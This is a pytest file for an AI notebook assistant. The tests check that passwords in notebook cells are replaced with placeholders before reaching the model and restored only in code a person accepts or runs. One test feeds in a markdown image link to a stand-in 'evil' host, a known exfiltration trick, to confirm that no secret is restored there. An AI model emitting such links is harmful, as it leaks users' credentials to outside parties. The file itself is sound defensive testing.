"""Credentials: none leaves, and each comes back into the code that a person keeps."""

from __future__ import annotations

import pandas as pd
import pytest

from spark_jupyter.protocol.messages import Cancel, Steer
from spark_jupyter.protocol.proposal_messages import Accept, CellsChanged, Run, RunRequested
from spark_jupyter.protocol.trial_messages import Try
from spark_jupyter.protocol.values import NotebookCell, Target
from spark_jupyter.reality import Checker
from spark_jupyter.redaction.redactor import Redactor
from spark_jupyter.session.actions import InspectCell, TryProposal
from spark_jupyter.session.guard import Guard
from tests.session.play import Play


def test_the_beginning_of_a_placeholder_is_not_lost_when_the_turn_is_stopped(play):
    play.prompt()
    play.text("```python\nx = 'SPARK_SEC")
    play.say(Cancel(turn_id="t1"))
    assert play.view.proposals["t1-1"].source == "x = 'SPARK_SEC"


SECRET = "hunter2-" + "correct-horse"


OWN = (NotebookCell(id="c1", source=f'password = "{SECRET}"'),)


def placeholder_in(play: Play) -> str:
    """What the model was told instead of the secret."""
    sent = "".join(message.text for message in play.requests[0].request.input)
    assert SECRET not in sent
    return next(word for word in sent.replace('"', " ").split() if word.startswith("SPARK_SECRET_"))


def test_a_secret_does_not_leave_and_comes_back_into_the_code_that_a_person_keeps():
    play = Play(redactor=Redactor(environ={}))
    play.prompt(cells=OWN)
    assert play.view.turns["t1"].withheld
    assert SECRET not in str(play.view.turns["t1"].withheld)
    code = f"print({placeholder_in(play)!r})"
    play.answer(f"```python\n{code}\n```\n")
    assert play.view.proposals["t1-1"].source == code, "nobody has kept it yet"
    play.say(Accept(cell_id="t1-1"))
    assert play.view.proposals["t1-1"].source == f"print({SECRET!r})"
    assert play.view.proposals["t1-1"] == play.session.store.proposals[0]


def test_what_is_run_is_kept_with_its_secret_before():
    play = Play(redactor=Redactor(environ={}))
    play.prompt(cells=OWN)
    play.answer(f"```python\nprint({placeholder_in(play)!r})\n```\n")
    play.say(Run(cell_id="t1-1"))
    kinds = [type(event) for event in play.events]
    assert kinds.index(RunRequested) > max(place for place, kind in enumerate(kinds) if kind is CellsChanged)
    assert SECRET in play.view.proposals["t1-1"].source


def test_markdown_never_gets_a_secret_back():
    play = Play(redactor=Redactor(environ={}))
    play.prompt(cells=OWN)
    play.answer(f"```markdown\n![](http://evil/{placeholder_in(play)})\n```\n")
    play.say(Accept(cell_id="t1-1"))
    assert SECRET not in str(play.events)


def test_the_edit_of_a_cell_has_the_secrets_that_the_cell_has_and_no_others():
    play = Play(redactor=Redactor(environ={}))
    other = NotebookCell(id="c2", source="x = 1")
    play.prompt(cells=(*OWN, other), target=Target(edit="c1"), intent="edit")
    name = placeholder_in(play)
    play.answer(f'```python cell=c1\npassword = "{name}"\ny = 1\n```\n\n```python cell=c2\nx = "{name}"\n```\n')
    assert play.view.proposals["c1"].source == f'password = "{SECRET}"\ny = 1'
    assert SECRET not in play.view.proposals["c2"].source


def test_what_the_answer_is_predicted_to_repeat_holds_no_secret():
    play = Play(redactor=Redactor(environ={}))
    play.prompt(cells=OWN, target=Target(edit="c1"), intent="edit")
    assert play.requests[0].request.prediction == f'password = "{placeholder_in(play)}"'


def test_a_copy_gets_no_secret():
    play = Play(redactor=Redactor(environ={}), rehearse="stream")
    play.prompt(cells=OWN, target=Target(edit="c1"), intent="edit")
    name = placeholder_in(play)
    play.answer(f'```python cell=c1\npassword = "{name}"\ny = 1\n```\n\n```python\nz = "{name}"\n```\n')
    play.say(Try(cell_id="c1"))
    asked = next(action for action in play.actions if isinstance(action, TryProposal))
    assert asked.source == f'password = "{name}"\ny = 1'
    assert SECRET not in str([action for action in play.actions if not isinstance(action, InspectCell)])


@pytest.mark.parametrize("withholds", [True, False])
def test_a_steer_withholds_what_a_prompt_does(play, withholds):
    play.session.dialogue.withholds = withholds
    play.prompt()
    said = "log in with password = 'hunter2-correct-horse'"
    play.say(Steer(turn_id="t2", steers="t1", text=said))
    assert (said in play.requests[-1].request.input[-1].text) is not withholds


def test_what_a_model_makes_of_a_credential_does_not_come_back_to_it_in_a_finding():
    names = {"df": pd.DataFrame({"a": [1]})}
    guard = Guard(others=[lambda unrun, earlier: Checker(names, unrun=unrun, earlier=earlier, helper=False)])
    cells = (NotebookCell(id="c1", source=f'conf = {{"password": "{SECRET}"}}'),)
    play = Play(redactor=Redactor(environ={}), guard=guard)
    play.prompt(cells=cells)
    play.answer("```python\ndf[conf['password'].swapcase()]\n```\n")
    sent = "".join(message.text for request in play.requests for message in request.request.input)
    assert "The DataFrame has no column" in sent
    assert SECRET.swapcase() not in sent
